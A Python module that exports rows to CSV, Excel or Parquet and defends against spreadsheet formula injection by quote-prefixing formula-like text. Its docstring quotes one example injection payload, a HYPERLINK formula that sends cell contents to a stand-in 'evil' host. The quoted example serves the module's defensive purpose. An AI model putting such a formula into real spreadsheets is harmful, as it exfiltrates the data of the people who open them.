"""One list of rows to a file: CSV (UTF-8 with BOM, so Excel opens Chinese text right), Excel (openpyxl) or
Parquet (pyarrow). Columns keep their order; values keep their types where the format has them.

Formula injection (#16 item 9): a spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and a tab or
carriage return before one) as a formula, e.g. a consignee ``=HYPERLINK("http://evil/?"&A1,"click")``. Every text
value of every format is passed through `neutralise` first: such a text gets a single quote in front (OWASP's advice;
Excel shows the quote-prefixed text as text and never runs it). Decided per value, not per column: numbers (int,
float, Decimal) keep their type, and a text that is a plain number in full ("-12.5", "+86138...", "1e-3") is no
formula and stays as it is, so an amount column reads the same in every format. Headers go through the same check.

Typed cells (#18): in Excel a number (int, float, Decimal) is a number cell, shown with as many decimals as a Decimal
carries (12.50 as 0.00), a datetime a date cell shown yyyy-mm-dd hh:mm:ss (the wall time of its own offset: Excel has
no time zones, the caller gives the zone people read, Asia/Shanghai), a date a date cell; CSV writes a datetime as
that same wall time text."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Any

FORMATS = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "parquet": "application/vnd.apache.parquet",
}
SHEET_TITLE_MAX = 31
XLSX_MAX_ROWS = 1_048_575
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DATETIME_FORMAT, DATE_FORMAT, DATETIME_TEXT = "yyyy-mm-dd hh:mm:ss", "yyyy-mm-dd", "%Y-%m-%d %H:%M:%S"
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


class ExportError(ValueError):
    """Unknown format, or more rows than the format holds."""


@dataclass(frozen=True)
class Exported:
    content: bytes
    media_type: str
    filename: str


def export_rows(rows: Iterable[Mapping[str, Any]], columns: Sequence[str], fmt: str, name: str,
                headers: Sequence[str] | None = None) -> Exported:
    """rows as a file named `name.<fmt>`; headers: the first line's labels in CSV and Excel (default: the column
    names). Parquet always names its columns by the column names, for the tools that read it."""
    if fmt not in FORMATS:
        raise ExportError(f"unknown export format {fmt!r}; formats: {', '.join(FORMATS)}")
    values = [[neutralise(row.get(c)) for c in columns] for row in rows]
    labels = [neutralise(label) for label in (columns if fmt == "parquet" else headers or columns)]
    writer = {"csv": _csv, "xlsx": _xlsx, "parquet": _parquet}[fmt]
    return Exported(writer(values, labels, name), FORMATS[fmt], f"{name}.{fmt}")


def formula_like(text: str) -> bool:
    """Would a spreadsheet take this text as a formula? It starts with = + - @ (or a tab or CR) and is not a plain
    number."""
    return text.startswith(FORMULA_START) and PLAIN_NUMBER.fullmatch(text) is None


def neutralise(value: Any) -> Any:
    """A text that a spreadsheet would run as a formula, with a single quote in front; anything else unchanged."""
    return "'" + value if isinstance(value, str) and formula_like(value) else value


def quote_prefix(sheet: Any, min_row: int = 2) -> None:
    """The workbooks that are imported back (document templates, code lists): in an openpyxl sheet, every text a
    spreadsheet would run (`formula_like`) from `min_row` on becomes a text cell with Excel's own single-quote prefix
    (quotePrefix) instead of getting a quote in its text: Excel shows it as text and never runs it, and reading the
    file back gives the text unchanged. openpyxl alone would store any text starting with "=" as a formula."""
    for row in sheet.iter_rows(min_row=min_row):
        for cell in row:
            if isinstance(cell.value, str) and formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True


def _csv(values: list[list[Any]], labels: list[str], _name: str) -> bytes:
    text = io.StringIO()
    out = csv.writer(text)
    out.writerow(labels)
    out.writerows([[_csv_value(v) for v in row] for row in values])
    return ("\ufeff" + text.getvalue()).encode("utf-8")


def _csv_value(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime(DATETIME_TEXT)
    return value


def _xlsx(values: list[list[Any]], labels: list[str], name: str) -> bytes:
    from openpyxl import Workbook

    if len(values) > XLSX_MAX_ROWS:
        raise ExportError(f"{len(values)} rows: more than an Excel sheet holds; export CSV or Parquet")
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=name[:SHEET_TITLE_MAX])
    sheet.append(labels)
    for row in values:
        sheet.append([_excel_cell(sheet, v, _excel_value(v)) for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _excel_value(value: Any) -> Any:
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)  # Excel has no time zones: the wall time of the offset the caller chose
    if isinstance(value, str | int | float | Decimal | date) or value is None:
        return neutralise(value)
    return neutralise(str(value))


def _excel_cell(sheet: Any, original: Any, value: Any) -> Any:
    """Text as a text cell, always: openpyxl would store any text starting with "=" as a formula. Numbers and dates
    as typed cells with a display format (`number_format`)."""
    shown = number_format(original)
    if not isinstance(value, str) and shown is None:
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value)
    if isinstance(value, str):
        cell.data_type = "s"
    else:
        cell.number_format = shown
    return cell


def number_format(value: Any) -> str | None:
    """Excel's display format of a typed value: a Decimal's own decimals, date and time, date; None: the default."""
    if isinstance(value, datetime):
        return DATETIME_FORMAT
    if isinstance(value, date):
        return DATE_FORMAT
    if isinstance(value, Decimal) and value.is_finite():
        places = -int(value.as_tuple().exponent)
        return "0." + "0" * places if places > 0 else "0"
    return None


def _parquet(values: list[list[Any]], labels: list[str], _name: str) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    columns = {}
    for index, label in enumerate(labels):
        column = [row[index] for row in values]
        try:
            columns[label] = pa.array(column)
        except (pa.ArrowInvalid, pa.ArrowTypeError):  # mixed types: keep the text
            columns[label] = pa.array([None if v is None else str(v) for v in column], type=pa.string())
    out = io.BytesIO()
    pq.write_table(pa.table(columns) if labels else pa.table({}), out)
    return out.getvalue()
